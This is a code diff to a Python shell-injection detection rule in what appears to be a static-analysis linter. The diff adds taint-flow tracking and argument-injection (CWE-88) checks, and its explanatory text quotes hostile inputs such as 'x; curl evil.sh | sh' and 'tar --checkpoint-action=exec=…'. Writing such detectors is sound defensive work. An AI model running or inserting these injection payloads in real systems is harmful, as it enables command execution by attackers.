@@ -5,6 +5,10 @@ import { UnitNodeIndex } from '../../analysis/units';
 import type { SyntaxNode } from '../../syntax/syntaxNode';
 import { constantTruthiness } from '../support/call-arguments';
 import { codeList, codeSnippet, shorten } from '../support/snippets';
+import { percentConversions } from '../support/formatStrings';
+import { SinkHits, flowReport, sourceKind, sourceOf, withFlow } from '../flowRule';
+import type { FlowHit } from '../../flow/interpreter';
+import { kindBit } from '../../flow/concepts';
 
 /** `subprocess` functions that run through a shell when given `shell=True`. */
 const SUBPROCESS_FUNCTIONS = new Set([
@@ -106,6 +110,8 @@ interface Channel {
   readonly noteConstant: boolean;
   /** What to suggest instead, for the constant-command note. */
   readonly instead: string;
+  /** At most this confidence: a shell that runs only if an unknown flag is true. */
+  readonly confidence?: 'low';
 }
 
 const MAX_DEPTH = 8;
@@ -115,7 +121,7 @@ export default defineRule({
     id: 'VG102',
     name: 'shell-injection',
     title: 'Shell command built from data',
-    cwe: [78],
+    cwe: [78, 88],
     severity: 'high',
     confidence: 'high',
     status: 'stable',
@@ -125,7 +131,7 @@ export default defineRule({
     fixable: true,
     docs: {
       whatItDoes:
-        'Flags commands run through a shell — `subprocess` calls with `shell=True`, `os.system`, `os.popen`, `subprocess.getoutput`, `asyncio.create_subprocess_shell`, and explicit `sh -c`/`bash -c` argument lists — when the command is built from data. A constant command run through a shell gets a low-severity note.',
+        'Flags commands run through a shell — `subprocess` calls with `shell=True`, `os.system`, `os.popen`, `subprocess.getoutput`, `asyncio.create_subprocess_shell`, and explicit `sh -c`/`bash -c` argument lists — when the command is built from data. A constant command run through a shell gets a low-severity note. With the flow layer it also follows request data and program input (`sys.argv`) into any command, through helpers and lists: such a finding is high severity and carries the path; data that names the program is command injection, and data passed as an argument of an argument list without a `--` before it is argument injection (CWE-88: a value starting with `-` becomes an option, as `tar --checkpoint-action=exec=…`).',
       whyIsThisBad:
         'A shell reads its command as a little program: `;`, `|`, `&&`, `$(...)` and backquotes start new commands. When any part of the command comes from a user, a file name or a network peer, a value such as `x; curl evil.sh | sh` runs the attacker\'s commands with your process\'s rights. Quoting by hand (`"\'" + name + "\'"`) is easy to get wrong; an argument list never goes through a shell at all.',
       example:
@@ -139,13 +145,18 @@ export default defineRule({
         'https://cheatsheetseries.owasp.org/cheatsheets/OS_Command_Injection_Defense_Cheat_Sheet.html',
       ],
       knownProblems:
-        'Trusted as spliced values: constants, numbers (`int(x)`, `%d`, `{n:d}`), `sys.executable`, and values passed through `shlex.quote`, `shlex.join` or `pipes.quote` — the latter only outside quotes in the template and only for POSIX shells (`shell=True` is assumed to mean `/bin/sh`; under `cmd /c` or PowerShell quoted values are still reported). A command Vigil cannot see into (a parameter passed straight through, the result of a call) is reported at medium severity and confidence, because it may or may not hold outside data. Not flagged: `shell=` set from a variable, wrappers of your own that take `shell=True` (Bandit B604 flags every function with a `shell=True` argument; Vigil only flags `subprocess`), `loop.subprocess_shell`, `os.exec*`/`os.spawn*` with a shell whose path is not a constant, commands assembled through containers or loops (`parts.append(...)`), and a constant script run with `sh -c` (it is a deliberate use of the shell). Wildcard injection (B609) is only reported for constant commands where a glob word starting with `*` is passed to `tar`, `chmod`, `chown`, `chgrp` or `rsync` without a `--` before it.',
+        'Trusted as spliced values: constants, numbers (`int(x)`, `%d`, `{n:d}`), `sys.executable`, and values passed through `shlex.quote`, `shlex.join` or `pipes.quote` — the latter only outside quotes in the template and only for POSIX shells (`shell=True` is assumed to mean `/bin/sh`; under `cmd /c` or PowerShell quoted values are still reported). A command Vigil cannot see into (a parameter passed straight through, the result of a call) is reported at medium severity and confidence, because it may or may not hold outside data. `shell=` is read as Python does (`"False"`, `[False]` and `1` are true; `False`, `0`, `None`, `""` are not); a value Vigil cannot read (`shell=flag`) gives the same finding at low confidence, and no note for a constant command. Not flagged: wrappers of your own that take `shell=True` (Bandit B604 flags every function with a `shell=True` argument; Vigil only flags `subprocess`), `loop.subprocess_shell`, `os.exec*`/`os.spawn*` with a shell whose path is not a constant, commands assembled through containers or loops (`parts.append(...)`) unless the flow layer sees request data or program input in them, and a constant script run with `sh -c` (it is a deliberate use of the shell). Wildcard injection (B609) is only reported for constant commands where a glob word starting with `*` is passed to `tar`, `chmod`, `chown`, `chgrp` or `rsync` without a `--` before it.',
       fixSafety:
         'Offered only for `subprocess` calls whose command is a string literal of plain words (letters, digits and `_./=:,+@%-`, no quotes, variables, globs, redirections or leading `VAR=value`) that does not start with a shell builtin, and without `executable=`. The command is split on spaces into a list and `shell=True` is removed. The program then runs the same way, found on `PATH` like the shell finds it. Differences that remain: a missing program raises `FileNotFoundError` instead of returning exit status 127, and on Windows a program that is a `.bat`/`.cmd` file is only found through the shell (the fix is withheld for the common ones: `npm`, `yarn`, `gradle`, `code`…).',
     },
   },
+  usesFlow: true,
   create(context) {
     const { model } = context;
+    const meta = { severity: 'high', confidence: 'high' } as const;
+    /** Request data and program input reaching command sinks, by the flow layer (also through helpers and containers). */
+    let sinkHits: SinkHits | undefined;
+    const commandHits = (): SinkHits => (sinkHits ??= new SinkHits(context.flow.hits, 'command'));
 
     /**
      * The qualified name of what a call calls, with the builtin `map` (which the model's builtin list lacks)
@@ -432,15 +443,26 @@ export default defineRule({
       fix?: () => FixSpec | null,
     ): void => {
       const verdict = judge(command, posix);
+      const emit = (report: Report): void => context.report(channel.confidence ? { ...report, confidence: channel.confidence } : report);
       const label = `\`${callee}()\``;
       const codes = { bandit: channel.bandit, ruff: channel.ruff };
+      // The flow layer's evidence for this call: where the data came from, and the path it took. A command this rule
+      // judged safe (quoted, numeric) stays safe; one it could not see into is raised by it.
+      const hit = commandHits().take(call);
+      if (hit && verdict.kind === 'constant') {
+        // Only constants as far as names go: data reached the command through a container or a call.
+        emit(
+          withFlow({ at: call, message: `${label} runs a command ${channel.how}, and data reaches it through a container or a call`, ...codes }, hit, 'high', meta),
+        );
+        return;
+      }
       switch (verdict.kind) {
         case 'safe':
           return;
         case 'constant': {
           const wildcard = posix && verdict.text !== null ? wildcardInjection(verdict.text) : null;
           if (wildcard) {
-            context.report({
+            emit({
               at: call,
               message: `${label} runs \`${verdict.display}\` ${channel.how}: \`${wildcard.word}\` expands to file names, and a file named like an option (\`--checkpoint-action=...\`, \`--reference=...\`) becomes an option of \`${wildcard.program}\``,
               severity: 'medium',
@@ -453,7 +475,7 @@ export default defineRule({
           if (!channel.noteConstant) return;
           const spelled = `the constant command \`${verdict.display}\``;
           const found = fix?.() ?? null;
-          context.report({
+          emit({
             at: call,
             message: `${label} runs ${spelled} ${channel.how}; ${channel.instead}`,
             severity: 'low',
@@ -476,14 +498,15 @@ export default defineRule({
           if (!call.contains(verdict.origin)) {
             related.push({ at: verdict.origin, message: 'the command is built here' });
           }
-          context.report({
+          const report: Report = {
             at: call,
             message: `${label} runs a command built from ${names} ${channel.how}${note}`,
             severity: 'high',
             confidence: 'high',
             ...codes,
             ...(related.length > 0 ? { related } : {}),
-          });
+          };
+          emit(withFlow(report, hit, 'high', meta));
           return;
         }
         case 'unknown': {
@@ -491,14 +514,16 @@ export default defineRule({
           if (verdict.source && !call.contains(verdict.source)) {
             related.push({ at: verdict.source, message: `\`${codeSnippet(unparenthesize(command))}\` comes from here` });
           }
-          context.report({
+          const shown = `${label} runs \`${codeSnippet(unparenthesize(command))}\` ${channel.how}`;
+          const report: Report = {
             at: call,
-            message: `${label} runs \`${codeSnippet(unparenthesize(command))}\` ${channel.how}; if any part of it comes from outside, it can inject commands`,
+            message: hit ? `${shown}: it can inject commands` : `${shown}; if any part of it comes from outside, it can inject commands`,
             severity: 'medium',
             confidence: 'medium',
             ...codes,
             ...(related.length > 0 ? { related } : {}),
-          });
+          };
+          emit(withFlow(report, hit, 'high', meta));
           return;
         }
       }
@@ -542,7 +567,15 @@ export default defineRule({
       if (!commandArgument) return;
       const shellValue = args.keywords.get('shell');
       const shell = shellValue ? constantTruthiness(model, shellValue) : false;
-      if (shell === true) {
+      if (shell !== false && shellValue) {
+        // `shell=` as Python reads it: `"False"` and `[False]` are true. A value Vigil cannot read (`shell=flag`)
+        // may be true: the same judgement, at lower confidence, and no note for a constant command.
+        const literal = shellValue.type === 'true';
+        const how = literal
+          ? 'through a shell (`shell=True`)'
+          : shell
+            ? `through a shell (\`shell=${codeSnippet(shellValue, 20)}\` is true)`
+            : `through a shell if \`shell=${codeSnippet(shellValue, 20)}\` is true`;
         // With a list, the first element is the shell command; the rest become `$0`, `$1`…
         const elements = listElements(commandArgument);
         if (elements !== null && elements.length === 0) return;
@@ -552,18 +585,18 @@ export default defineRule({
           callee,
           command,
           {
-            how: 'through a shell (`shell=True`)',
+            how,
             bandit: ['B602'],
             ruff: ['S602'],
-            noteConstant: true,
+            noteConstant: shell === true,
             instead: 'prefer an argument list without `shell=True`',
+            ...(shell === null ? { confidence: 'low' as const } : {}),
           },
           true,
-          () => (elements ? null : argumentListFix(call, unparenthesize(commandArgument), args.keywordNodes.get('shell')!)),
+          () => (elements || !literal ? null : argumentListFix(call, unparenthesize(commandArgument), args.keywordNodes.get('shell')!)),
         );
         return;
       }
-      if (shell === null) return; // `shell=flag`: not this rule's to guess
       const elements = listElements(commandArgument);
       if (!elements) return;
       const executable = args.keywords.get('executable');
@@ -627,6 +660,77 @@ export default defineRule({
       reportExplicitShell(call, callee, shellCommandIn(argv, path));
     };
 
+    /**
+     * Untrusted data that reaches a command without going through a shell this rule judged: the program itself
+     * (CWE-78), or an argument of an argument list, where a value starting with `-` becomes an option of the program
+     * (`tar --checkpoint-action=exec=…`, `ssh -oProxyCommand=…`: argument injection, CWE-88).
+     */
+    const reportUnjudgedFlow = (hit: FlowHit): void => {
+      const callee = model.calleeQualifiedName(hit.sink);
+      const label = `\`${codeSnippet(hit.sink.child('function') ?? hit.sink, 40)}()\``;
+      const args = callArguments(hit.sink);
+      // Where the command or program is: `os.spawn*` take a mode first.
+      const programIndex = callee?.startsWith('os.spawn') ? 1 : 0;
+      const commandArgument = args.positional[programIndex] ?? args.keywords.get('args') ?? args.keywords.get('cmd');
+      // `execute(*cmd)`: the vector is the splatted list.
+      const carried = hit.argument.type === 'list_splat' && hit.argument.firstNamedChild() ? unparenthesize(hit.argument.firstNamedChild()!) : unparenthesize(hit.argument);
+      // The environment of `os.execve(path, args, env)` and kin is not part of the command (CGI passes requests so).
+      const environment = callee && /^os\.(posix_spawnp?$|(exec|spawn)\w*e$)/.test(callee)
+        ? args.keywords.get('env') ?? (callee.startsWith('os.posix_spawn') ? args.positional[2] : args.positional.at(-1))
+        : undefined;
+      if (environment && unparenthesize(environment) === carried) return;
+      let elements: readonly SyntaxNode[] | null;
+      if (commandArgument && unparenthesize(commandArgument) === carried) {
+        elements = listElements(carried);
+        if (!elements) {
+          context.report(flowReport(hit, 'high', `${label} runs a command that comes from ${sourceKind(hit)} (${sourceOf(hit)}): whoever sends it chooses the program and its arguments; run a fixed program and check the values against a fixed set`));
+          return;
+        }
+      } else {
+        // One argument of many (`os.execl(path, arg0, arg1…)`, `create_subprocess_exec(program, *args)`), or an
+        // argument vector after the path (`os.execv(path, argv)`, whose first element is only the name it sees).
+        const vector = listElements(carried);
+        const program = args.positional[programIndex];
+        elements = hit.argument.type === 'list_splat' ? vector : vector && program ? [program, ...vector.slice(1)] : args.positional.slice(programIndex);
+        if (!elements) return;
+      }
+      const untrusted = (element: SyntaxNode): boolean => {
+        const taint = context.flow.taintOf(element);
+        return !!taint && (taint.kinds & (kindBit('remote') | kindBit('local'))) !== 0;
+      };
+      if (elements[0] && untrusted(elements[0])) {
+        context.report(flowReport(hit, 'high', `${label} runs a program named by ${sourceKind(hit)} (${sourceOf(hit)}): whoever sends it chooses what runs; pick the program from a fixed set`));
+        return;
+      }
+      const program = constantString(elements[0]);
+      let endOfOptions = false;
+      let previous: string | null = null;
+      for (const element of elements.slice(1)) {
+        const word = constantString(element);
+        if (word === '--') endOfOptions = true;
+        // `--format VALUE`: a value right after a long option is taken as that option's argument, even when it starts
+        // with `-` (getopt_long). Short options are as often flags without one (`zip -r`, `tar -x`): still reported.
+        const optionArgument = previous !== null && /^--[A-Za-z][\w-]*$/.test(previous);
+        previous = word;
+        if (endOfOptions || optionArgument || !untrusted(element) || startsWithConstantWord(element)) continue;
+        const name = program === null ? 'the program' : `\`${basename(program)}\``;
+        context.report({
+          ...flowReport(hit, 'medium', `${label} passes ${sourceKind(hit)} (${sourceOf(hit)}) to ${name} as an argument: a value starting with \`-\` is read as an option (\`--checkpoint-action=exec=…\`, \`-oProxyCommand=…\`); put \`"--"\` before it, or reject values that start with \`-\``),
+          // On the sink: the element itself when it is written in the call, else the argument that carries it.
+          at: hit.sink.contains(element) ? element : hit.argument,
+          ...(hit.sink.contains(element) ? {} : { related: [{ at: element, message: 'the argument is put in the list here' }] }),
+        });
+        return;
+      }
+    };
+
+    /** Whether an argument always starts with constant text that is not an option (`f"--name={x}"`, `"id=" + x`). */
+    const startsWithConstantWord = (element: SyntaxNode): boolean => {
+      const shape = model.stringShape(element);
+      const first = shape?.parts[0];
+      return !!first && first.kind === 'text' && first.text.length > 0;
+    };
+
     return {
       call(call) {
         const callee = model.calleeQualifiedName(call);
@@ -634,6 +738,16 @@ export default defineRule({
         if (SUBPROCESS_FUNCTIONS.has(callee)) onSubprocess(call, callee);
         else if (ALWAYS_SHELL.has(callee)) onAlwaysShell(call, callee);
         else if (/^os\.(exec|spawn|posix_spawn)/.test(callee)) onExecOrSpawn(call, callee);
+        else if (callee === 'asyncio.create_subprocess_exec') {
+          // `create_subprocess_exec("sh", "-c", cmd)`: the arguments are the argument vector.
+          const args = callArguments(call);
+          if (!args.hasUnpacking && args.positional.length > 0) reportExplicitShell(call, callee, shellCommandIn(args.positional));
+        }
+      },
+      'unit:exit'() {
+        // Only request data: a program's own user choosing what it runs (its arguments, its environment) is
+        // what command-line tools are for.
+        for (const hit of commandHits().rest()) if (hit.taint.kinds & kindBit('remote')) reportUnjudgedFlow(hit);
       },
     };
   },
@@ -643,21 +757,6 @@ export default defineRule({
 const NUMERIC_CONVERSIONS = new Set(['d', 'i', 'o', 'u', 'x', 'X', 'e', 'E', 'f', 'F', 'g', 'G']);
 /** Format specs that only accept numbers: `{n:d}`, `{x:08.3f}`, `{n:,}` is not one (`str` rejects `,` too, but keep it simple). */
 const NUMERIC_FORMAT_SPEC = /^:[^{}]*[bdeEfFgGnoxX%]$/;
-
-/**
- * The conversion letters of a `%` template in order, or null when values are not matched by position
- * (`%(name)s` mappings, `*` widths).
- */
-function percentConversions(template: string): string[] | null {
-  const conversions: string[] = [];
-  const pattern = /%(\([^)]*\))?[-#0 +]*(\*|\d+)?(?:\.(\*|\d+))?[hlL]?([diouxXeEfFgGcrsa%])/g;
-  for (const match of template.matchAll(pattern)) {
-    if (match[4] === '%') continue;
-    if (match[1] || match[2] === '*' || match[3] === '*') return null;
-    conversions.push(match[4]!);
-  }
-  return conversions;
-}
 
 function basename(path: string): string {
   return path.split(/[\\/]/).pop() ?? path;
